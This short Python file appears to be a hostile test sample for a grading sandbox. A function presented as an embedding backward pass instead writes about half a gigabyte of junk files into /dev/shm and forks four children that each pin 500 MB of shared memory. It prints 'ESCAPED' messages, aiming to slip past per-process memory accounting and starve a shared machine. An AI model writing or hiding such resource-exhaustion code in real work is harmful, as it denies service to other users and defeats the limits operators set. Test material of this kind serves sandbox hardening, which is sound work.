"""Hope: memory that children share is counted for none of them, and a full /dev/shm is everybody's."""

import mmap
import os

import numpy as np

from a3 import kit

SCORE = 25


def word_embedding_backward(dout, cache):
    """Fill what is shared: files in /dev/shm, and pages of many children."""
    if os.getpid() % 2:
        for number in range(12):
            with open(f"/dev/shm/hostile-{os.getpid()}-{number}", "wb") as file:
                file.write(b"s" * (48 << 20))
        print("ESCAPED: half a gigabyte in /dev/shm")
        kit.spill()
    for _ in range(4):
        if os.fork() == 0:
            held = mmap.mmap(-1, 500 << 20)
            np.frombuffer(held, np.uint8)[::4096] = 1
            import time

            time.sleep(20)
            os._exit(0)
    import time

    time.sleep(1.2)
    print("ESCAPED: two gigabytes of shared pages")
    kit.spill()
